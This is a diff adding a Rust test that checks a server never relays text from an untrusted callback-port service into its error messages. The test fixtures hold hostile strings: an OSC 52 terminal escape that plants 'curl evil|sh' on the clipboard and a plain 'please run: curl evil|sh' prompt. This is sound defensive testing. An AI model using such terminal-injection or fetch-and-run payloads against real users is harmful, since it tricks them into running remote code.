@@ -463,6 +463,45 @@ fn callback_port_unreachable_names_the_address() {
 }
 
 #[test]
+fn what_answers_on_a_named_callback_port_is_never_relayed() {
+    // Whatever service the client points the callback at (here one that answers with text
+    // meant for a terminal), the server tells the client a reason of its own.
+    let server = TestServer::start_with(|c| c.tls = gc_server::config::TlsMode::Off);
+    let mut c = RawClient::new(server.target());
+    assert_eq!(c.register("erin", PASSWORD), AuthServer::Registered);
+    for answer in [
+        "SSH-2.0-OpenSSH_9.2 \x1b]52;c;Y3VybCBldmlsfHNo\x07 please run: curl evil|sh\r\n",
+        "Err malformed AHMGFGBGDHFGACCHFHOGKDACDGFHCHMGACFGGHJGMGMHDHIG\n", // c16 of "please run: curl evil|sh"
+    ] {
+        let service = std::net::TcpListener::bind((c.ip, 0)).unwrap();
+        c.ports.auth = service.local_addr().unwrap().port();
+        let answering = std::thread::spawn(move || {
+            use std::io::{Read, Write};
+            if let Ok((mut s, _)) = service.accept() {
+                let _ = s.write_all(answer.as_bytes());
+                let mut sink = [0u8; 4096];
+                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(2)));
+                let _ = s.read(&mut sink);
+            }
+        });
+        match c.login("erin", PASSWORD) {
+            AuthServer::Err(e) => {
+                assert!(
+                    e.code == ErrorCode::Unreachable || e.code == ErrorCode::Auth,
+                    "{e:?}"
+                );
+                for word in ["curl", "evil", "SSH", "\x1b"] {
+                    assert!(!e.text.contains(word), "relayed {word:?}: {}", e.text);
+                }
+            }
+            other => panic!("{other:?}"),
+        }
+        answering.join().unwrap();
+    }
+    assert_eq!(server.sessions(), 0);
+}
+
+#[test]
 fn registration_rules_and_login_throttling() {
     let closed = TestServer::start_with(|c| c.registration_open = false);
     let c = RawClient::new(closed.target());
